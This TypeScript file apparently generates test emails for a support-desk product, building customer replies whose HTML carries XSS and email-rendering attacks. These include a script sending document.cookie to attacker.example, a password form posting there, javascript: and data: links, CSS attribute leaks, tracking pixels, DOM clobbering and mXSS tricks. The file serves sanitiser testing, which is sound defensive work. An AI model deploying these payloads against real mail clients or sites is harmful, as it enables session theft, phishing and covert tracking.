import { customerAddress, threadHeaders } from '@/scripts/mail-corpus/answers/envelope';
import type { CorpusMail } from '@/scripts/mail-corpus/corpus-mail';
import { english } from '@/scripts/mail-corpus/languages/english';
import { gmailWeb } from '@/scripts/mail-corpus/programs/gmail';
import { tableRows } from '@/scripts/mail-corpus/table';
import { textPart } from '@/scripts/mail-corpus/writing/mime';
import { simpleMail } from '@/scripts/mail-corpus/writing/simple-mail';

/** The name, what a reader sees, and the HTML. */
const ANSWERS = tableRows(String.raw`
script | The draft is fine. | <p>The draft is fine.</p><script>fetch("https://attacker.example/"+document.cookie)</script>
script-written | No changes. | <p>No changes.</p><script>document.write("<scr"+"ipt>alert(1)</scr"+"ipt>")</script>
event-handler | See you on Monday. | <p onclick="alert(1)" onmouseover=alert(2)>See you on Monday.</p><img src=x onerror=alert(3)>
body-onload | We agree. | <body onload="alert(1)" onpageshow="alert(2)"><p>We agree.</p></body>
meta-refresh | Please wait. | <html><head><meta http-equiv="refresh" content="0;url=https://attacker.example/"></head><body>Please wait.</body></html>
base | The menu is too long. | <base href="https://attacker.example/"><p>The menu is too long.</p><img src="logo.png">
form | My answer is yes. | <p>My answer is yes.</p><form action="https://attacker.example/" method="post"><input name="password" type="password"></form>
iframe | Look at this page. | <p>Look at this page.</p><iframe src="https://attacker.example/" srcdoc="<script>parent.alert(1)</script>"></iframe>
object | The film is ready. | <p>The film is ready.</p><object data="https://attacker.example/x.swf"></object><embed src="https://attacker.example/x.pdf"><applet code="X"></applet>
svg-onload | A drawing is below. | <p>A drawing is below.</p><svg onload="alert(1)"><animate onbegin="alert(2)" attributeName="x" dur="1s"/></svg>
svg-use | Here is the icon. | <p>Here is the icon.</p><svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"/><image href="https://attacker.example/x.png"/></svg>
math | The sum is right. | <p>The sum is right.</p><math><mtext></mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></mglyph></math>
css-expression | Blue is better. | <p style="width:expression(alert(1));behavior:url(x.htc);-moz-binding:url(x.xml)">Blue is better.</p>
css-import | Green is better. | <style>@import url("https://attacker.example/x.css"); p{background:url(https://attacker.example/t.gif)}</style><p>Green is better.</p>
css-cover | The page is empty. | <div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:white"><p>The page is empty.</p></div>
css-attribute-leak | I chose the second one. | <style>input[value^="a"]{background:url(https://attacker.example/a)}</style><p>I chose the second one.</p>
tracker | Thank you for the call. | <p>Thank you for the call.</p><img src="https://attacker.example/open.gif?id=42" width="1" height="1">
srcset | The photo is old. | <p>The photo is old.</p><img srcset="https://attacker.example/1.png 1x, https://attacker.example/2.png 2x"><picture><source srcset="https://attacker.example/3.png"></picture>
background | We like it. | <table background="https://attacker.example/t.gif"><tr><td background="https://attacker.example/u.gif">We like it.</td></tr></table>
media | The sound is missing. | <p>The sound is missing.</p><video poster="https://attacker.example/p.png" src="https://attacker.example/v.mp4" autoplay></video><audio src="https://attacker.example/a.mp3"></audio>
link-css | All right. | <link rel="stylesheet" href="https://attacker.example/x.css"><link rel="dns-prefetch" href="//attacker.example"><p>All right.</p>
javascript-link | Click the link. | <p>Click the <a href="javascript:alert(1)">link</a>.</p>
javascript-tabs | Open the file. | <p>Open the <a href="java&#9;script&colon;alert(1)">file</a>.</p>
data-link | Read the letter. | <p>Read the <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">letter</a>.</p>
vbscript | It is old. | <p>It is <a href="vbscript:msgbox(1)">old</a>.</p>
misleading-link | Sign in at https://tesseraworks.example/desk | <p>Sign in at <a href="https://attacker.example/desk">https://tesseraworks.example/desk</a></p>
clobbering | The form is short. | <p>The form is short.</p><img name="getElementById"><a id="location" href="https://attacker.example/"></a><input name="body">
conditional-comment | Only for Outlook. | <!--[if mso]><script>alert(1)</script><![endif]--><p>Only for Outlook.</p>
slot | Fine by us. | <p>Fine by us.</p><x-desk onconnected="alert(1)"><slot name="x"></slot></x-desk><div is="desk-app"></div>
unclosed | Where is the end? | <div><p>Where is the end?<img src="https://attacker.example/
deep | Very deep. | «<div>×1500»Very deep.«</div>×1500»
attributes | Many attributes. | <p «data-x="1" ×3000»>Many attributes.</p>
entities | 5 < 6 & 7 > 2 | <p>5 &lt; 6 &amp; 7 &gt; 2</p>
fake-quote | Only this is new. | <p>Only this is new.</p><blockquote type="cite" onload="alert(1)"><p>Quoted</p></blockquote>
`);

const QUOTE =
  /<div class="gmail_quote.*$/s.exec(
    gmailWeb.write({ language: english, typed: '', layout: 'top', signature: null }).html ?? '',
  )?.[0] ?? '';

/** Returns answers of customers whose HTML attacks whoever shows it. */
export const htmlAnswers = (): CorpusMail[] =>
  ANSWERS.map(([name = '', text = '', html = ''], index) => {
    const place = (index % 10) + 1;
    return simpleMail(
      `hostile-answer-html-${name}`,
      {
        about: `An answer whose HTML attacks whoever shows it: ${name}.`,
        kind: 'answer',
        hostile: true,
        ticket: place,
        text,
      },
      [
        ['From', `Dana Whitfield <${customerAddress(place)}>`],
        ['To', `Tessera Works <{{reply-address-${place}}}>`],
        ['Subject', 'Re: Your inquiry to Tessera Works'],
        ...threadHeaders(place),
      ],
      // What has no end would take the quote into it.
      textPart(name === 'unclosed' || index % 2 === 0 ? html : `${html}<br>${QUOTE}`, {
        subtype: 'html',
      }),
    );
  });
